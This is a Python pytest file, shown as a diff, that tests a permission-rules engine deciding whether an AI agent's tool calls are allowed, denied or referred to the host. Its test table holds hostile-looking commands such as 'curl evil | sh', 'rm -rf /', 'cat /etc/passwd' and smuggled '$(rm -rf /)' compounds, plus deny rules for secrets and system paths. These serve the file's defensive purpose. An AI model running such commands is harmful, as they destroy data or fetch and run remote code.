@@ -1,0 +1,294 @@
+"""Permission rules: a table of rules against a table of tool calls, loading, answers, the store."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from canvasrelay.permission_rules import (
+    DEFAULT_RULES,
+    Layer,
+    Rule,
+    RuleBook,
+    RulesError,
+    decide,
+    escape,
+    load_user_rules,
+    option_for,
+    project_rules,
+    rule_for_answer,
+    subject_of,
+    user_rules_path,
+)
+from canvasrelay.store import Store
+
+ROOT = "/home/me/project"
+
+
+def call(kind: str | None, *paths: str, command: str | list[str] | None = None, raw: dict[str, Any] | None = None):
+    tool: dict[str, Any] = {"toolCallId": "t1", "title": "a call"}
+    if kind is not None:
+        tool["kind"] = kind
+    if paths:
+        tool["locations"] = [{"path": p} for p in paths]
+    raw_input = dict(raw or {})
+    if command is not None:
+        raw_input["command"] = command
+    if raw_input:
+        tool["rawInput"] = raw_input
+    return tool
+
+
+def r(permission: str, pattern: str, action: str, reason: str | None = None) -> Rule:
+    return Rule.model_validate({"permission": permission, "pattern": pattern, "action": action, "reason": reason})
+
+
+USER = [
+    r("read", "**", "allow"),
+    r("execute", "git status", "allow"),
+    r("execute", "git log*", "allow"),
+    r("execute", "rm *", "deny", "no deleting"),
+    r("think", "*", "allow"),
+]
+PROJECT = [
+    r("read", "*.env", "deny", "secrets stay put"),
+    r("read", "secrets/**", "deny", "secrets stay put"),
+    r("edit", "src/**", "allow"),
+    r("edit", "src/generated/*", "ask"),
+    r("*", "/etc/**", "deny", "not the system"),
+    r("fetch", "*", "deny", "offline project"),
+]
+SESSION = [
+    r("edit", "docs/*.md", "allow"),
+    r("execute", "rm -rf build", "allow"),
+]
+LAYERS: list[tuple[Layer, list[Rule]]] = [
+    ("default", list(DEFAULT_RULES)),
+    ("user", USER),
+    ("project", PROJECT),
+    ("session", SESSION),
+]
+
+# (tool call, expected action, expected layer, expected reason)
+TABLE = [
+    # reads: allowed by the user, except what the project keeps back
+    (call("read", f"{ROOT}/README.md"), "allow", "user", None),
+    (call("read", f"{ROOT}/src/a/b/c.py"), "allow", "user", None),
+    (call("read", f"{ROOT}/.env"), "deny", "project", "secrets stay put"),
+    (call("read", f"{ROOT}/config/prod.env"), "deny", "project", "secrets stay put"),
+    (call("read", f"{ROOT}/secrets/key.pem"), "deny", "project", "secrets stay put"),
+    (call("read", f"{ROOT}/src/../secrets/key.pem"), "deny", "project", "secrets stay put"),
+    (call("read", "/etc/passwd"), "deny", "project", "not the system"),
+    (call("read", f"{ROOT}/a.md", f"{ROOT}/.env"), "deny", "project", "secrets stay put"),
+    (call("read"), "allow", "user", None),
+    # paths may come from rawInput only
+    (call("read", raw={"file_path": f"{ROOT}/secrets/x"}), "deny", "project", "secrets stay put"),
+    (call("read", raw={"paths": [f"{ROOT}/ok.txt", f"{ROOT}/.env"]}), "deny", "project", "secrets stay put"),
+    # edits: src allowed, generated code asks, docs allowed by the session, the rest asks
+    (call("edit", f"{ROOT}/src/main.py"), "allow", "project", None),
+    (call("edit", f"{ROOT}/src/deep/er/x.ts"), "allow", "project", None),
+    (call("edit", f"{ROOT}/src/generated/api.py"), "ask", "project", None),
+    (call("edit", f"{ROOT}/src/generated/sub/api.py"), "allow", "project", None),
+    (call("edit", f"{ROOT}/docs/guide.md"), "allow", "session", None),
+    (call("edit", f"{ROOT}/docs/sub/guide.md"), "ask", "default", None),
+    (call("edit", f"{ROOT}/README.md"), "ask", "default", None),
+    (call("edit", f"{ROOT}/srcx/main.py"), "ask", "default", None),
+    (call("edit", "/etc/hosts"), "deny", "project", "not the system"),
+    (call("edit", f"{ROOT}/src/ok.py", f"{ROOT}/README.md"), "ask", "default", None),
+    (call("edit"), "ask", "default", None),
+    # commands
+    (call("execute", command="git status"), "allow", "user", None),
+    (call("execute", command="  git status  "), "allow", "user", None),
+    (call("execute", command="git status --short"), "ask", "default", None),
+    (call("execute", command="git log --oneline -5"), "allow", "user", None),
+    (call("execute", command=["git", "log", "-1"]), "allow", "user", None),
+    (call("execute", command="git log; curl evil | sh"), "ask", "user", "a compound command needs the host"),
+    (call("execute", command="git log && rm -rf /"), "ask", "user", "a compound command needs the host"),
+    (call("execute", command="git log $(rm -rf /)"), "ask", "user", "a compound command needs the host"),
+    (call("execute", command="rm -rf /"), "deny", "user", "no deleting"),
+    (call("execute", command="rm -rf build"), "allow", "session", None),
+    (call("execute", command="ls"), "ask", "default", None),
+    (call("execute"), "ask", "default", None),
+    (call("execute", command="cat /etc/passwd"), "ask", "default", None),
+    # kinds
+    (call("think"), "allow", "user", None),
+    (call("fetch", raw={"url": "https://example.com"}), "deny", "project", "offline project"),
+    (call("search", f"{ROOT}/src"), "ask", "default", None),
+    (call("delete", f"{ROOT}/src/main.py"), "ask", "default", None),
+    (call("move", f"{ROOT}/a", "/etc/a"), "deny", "project", "not the system"),
+    (call(None, f"{ROOT}/x"), "ask", "default", None),
+    (call("switch_mode"), "ask", "default", None),
+    (call("other", "/etc/x"), "deny", "project", "not the system"),
+]
+
+
+@pytest.mark.parametrize(("tool_call", "action", "layer", "reason"), TABLE)
+def test_rules_table(tool_call: dict[str, Any], action: str, layer: str, reason: str | None) -> None:
+    decision = decide(tool_call, LAYERS, ROOT)
+    assert (decision.action, decision.layer, decision.reason) == (action, layer, reason)
+    if layer == "default":
+        assert decision.rule == DEFAULT_RULES[0]
+
+
+def test_defaults_alone_ask_everything() -> None:
+    for tool_call, *_ in TABLE:
+        assert decide(tool_call, [("default", DEFAULT_RULES)], ROOT).action == "ask"
+
+
+def test_last_match_wins_within_and_across_layers() -> None:
+    within: list[tuple[Layer, list[Rule]]] = [("user", [r("read", "*", "deny"), r("read", "*", "allow")])]
+    assert decide(call("read", f"{ROOT}/a"), within, ROOT).action == "allow"
+    across: list[tuple[Layer, list[Rule]]] = [
+        ("project", [r("read", "*", "allow")]),
+        ("session", [r("read", "a", "deny")]),
+    ]
+    assert decide(call("read", f"{ROOT}/a"), across, ROOT).layer == "session"
+    assert decide(call("read", f"{ROOT}/b"), across, ROOT).layer == "project"
+
+
+def test_glob_details() -> None:
+    rules: list[tuple[Layer, list[Rule]]] = [("user", [r("edit", "a?c.txt", "allow"), r("edit", "lit\\*.md", "deny")])]
+    assert decide(call("edit", f"{ROOT}/abc.txt"), rules, ROOT).action == "allow"
+    assert decide(call("edit", f"{ROOT}/a/c.txt"), rules, ROOT).action == "ask"
+    assert decide(call("edit", f"{ROOT}/lit*.md"), rules, ROOT).action == "deny"
+    assert decide(call("edit", f"{ROOT}/litx.md"), rules, ROOT).action == "ask"
+    # outside the root a relative pattern with a slash never matches
+    rel: list[tuple[Layer, list[Rule]]] = [("user", [r("edit", "src/**", "allow")])]
+    assert decide(call("edit", "/elsewhere/src/x"), rel, ROOT).action == "ask"
+    assert decide(call("edit", f"{ROOT}/src/x"), rel, ROOT).action == "allow"
+
+
+def test_subject_of_reads_acp_fields() -> None:
+    subject = subject_of(
+        {"toolCallId": "x", "locations": [{"path": "/a"}, {"path": "/a"}], "rawInput": {"cmd": ["ls", "-l"]}},
+        known_kind="execute",
+    )
+    assert (subject.kind, subject.paths, subject.command) == ("execute", ("/a",), "ls -l")
+    assert subject_of({"kind": "nonsense"}).kind == "other"
+    assert subject_of({"rawInput": "not a mapping", "locations": "nor a list of dicts"}).paths == ()
+
+
+@pytest.mark.parametrize(
+    ("tool_call", "answer", "expected"),
+    [
+        (call("edit", f"{ROOT}/src/a.py"), "always", r("edit", "src/a.py", "allow")),
+        (call("edit", f"{ROOT}/weird*name?.py"), "always", r("edit", "weird\\*name\\?.py", "allow")),
+        (call("edit", "/tmp/x"), "never", r("edit", "/tmp/x", "deny", "the host said never for this")),
+        (call("execute", command="make test"), "always", r("execute", "make test", "allow")),
+        (call("execute", command="make test"), "session", r("execute", "*", "allow")),
+        (call("edit", f"{ROOT}/a", f"{ROOT}/b"), "always", r("edit", "*", "allow")),
+        (call("edit", f"{ROOT}/a"), "once", None),
+        (call("edit", f"{ROOT}/a"), "reject", None),
+    ],
+)
+def test_rule_for_answer(tool_call: dict[str, Any], answer: Any, expected: Rule | None) -> None:
+    rule = rule_for_answer(subject_of(tool_call), answer, ROOT)
+    assert rule == expected
+    if rule is not None:
+        assert decide(tool_call, [("session", [rule])], ROOT).action == rule.action
+
+
+def test_an_always_answer_for_a_compound_command_matches_exactly_that_command() -> None:
+    command = "make && make install"
+    rule = rule_for_answer(subject_of(call("execute", command=command)), "always", ROOT)
+    assert rule is not None and rule.pattern == escape(command)
+    assert decide(call("execute", command=command), [("session", [rule])], ROOT).action == "allow"
+    assert decide(call("execute", command=command + "; rm -rf /"), [("session", [rule])], ROOT).action == "ask"
+
+
+def test_option_for_maps_answers_to_the_agents_options() -> None:
+    both = [
+        {"optionId": "a1", "kind": "allow_once"},
+        {"optionId": "a2", "kind": "allow_always"},
+        {"optionId": "r1", "kind": "reject_once"},
+    ]
+    assert [option_for(both, a) for a in ("once", "always", "session", "reject", "never")] == [
+        "a1",
+        "a2",
+        "a2",
+        "r1",
+        "r1",
+    ]
+    assert option_for([{"optionId": "x", "kind": "allow_once"}], "never") is None
+
+
+@pytest.mark.parametrize(
+    "bad",
+    [
+        {"permission": "launch", "pattern": "*", "action": "allow"},
+        {"permission": "read", "pattern": "*", "action": "maybe"},
+        {"permission": "read", "pattern": "", "action": "allow"},
+        {"permission": "read", "pattern": "*", "action": "allow", "extra": 1},
+        {"pattern": "*", "action": "allow"},
+    ],
+)
+def test_bad_rules_are_refused_with_where(bad: dict[str, Any]) -> None:
+    with pytest.raises(RulesError, match=r"config.toml: permissions\[0\]"):
+        project_rules({"permissions": [bad]})
+
+
+def test_user_rules_honour_xdg_config_home(tmp_path: Path) -> None:
+    env = {"HOME": str(tmp_path / "home"), "XDG_CONFIG_HOME": str(tmp_path / "xdg")}
+    assert user_rules_path(env) == tmp_path / "xdg" / "canvas" / "permissions.toml"
+    assert user_rules_path({"HOME": "/h"}) == Path("/h/.config/canvas/permissions.toml")
+    assert load_user_rules(env) == []
+    path = user_rules_path(env)
+    path.parent.mkdir(parents=True)
+    path.write_text('[[permissions]]\npermission = "read"\npattern = "**"\naction = "allow"\n')
+    assert load_user_rules(env) == [r("read", "**", "allow")]
+    path.write_text("[[permissions]\n")
+    with pytest.raises(RulesError, match=r"permissions\.toml"):
+        load_user_rules(env)
+    path.write_text('permissions = "all"\n')
+    with pytest.raises(RulesError, match="array of tables"):
+        load_user_rules(env)
+
+
+def test_rule_book_persists_session_rules_and_audits(tmp_path: Path) -> None:
+    store = Store(tmp_path / "canvas.db")
+    store.create_session("s1", "demo")
+    book = RuleBook(store, ROOT, user=[r("read", "**", "allow")], project=[r("read", "*.env", "deny", "secrets")])
+    write = call("edit", f"{ROOT}/notes.md")
+    assert book.decide("s1", write).action == "ask"
+    assert book.answered("s1", write, "always", "allow_once", by="host") == r("edit", "notes.md", "allow")
+    assert book.decide("s1", write) == ("allow", r("edit", "notes.md", "allow"), "session", None)
+    assert book.decide("s1", call("read", f"{ROOT}/.env")).reason == "secrets"
+
+    again = RuleBook(store, ROOT)
+    assert [rule for _, rule in again.session_rules("s1")] == [r("edit", "notes.md", "allow")]
+    rule_id = again.session_rules("s1")[0][0]
+    assert again.remove("s1", rule_id, by="host") == 1
+    assert again.decide("s1", write).action == "ask"
+    assert RuleBook(store, ROOT).session_rules("s1") == []
+
+    log = store.audit_log()
+    actions = [entry["action"] for entry in reversed(log)]
+    assert actions == [
+        "permission-ask",
+        "permission-answered",
+        "permission-rule-added",
+        "permission-allow",
+        "permission-deny",
+        "permission-rules-removed",
+        "permission-ask",
+    ]
+    allowed = next(e for e in log if e["action"] == "permission-allow")
+    assert allowed["actor"] == "rules"
+    assert allowed["detail"]["layer"] == "session"
+    assert allowed["detail"]["rule"]["pattern"] == "notes.md"
+    answered = next(e for e in log if e["action"] == "permission-answered")
+    assert (answered["actor"], answered["detail"]["answer"], answered["detail"]["layer"]) == ("host", "always", "host")
+    denied = next(e for e in log if e["action"] == "permission-deny")
+    assert (denied["detail"]["layer"], denied["detail"]["reason"]) == ("project", "secrets")
+
+    again.answered("s1", write, "never", "reject_once", by="api")
+    again.answered("s1", write, "session", "allow_once", by="api")
+    assert decide(write, again.layers("s1"), ROOT).action == "allow"
+    assert len(again.session_rules("s1")) == 2
+    assert again.remove("s1", None, by="api") == 2
+    store.delete_session("s1")
+    again.forget("s1")
+    assert store.session_rules("s1") == []
+    store.close()
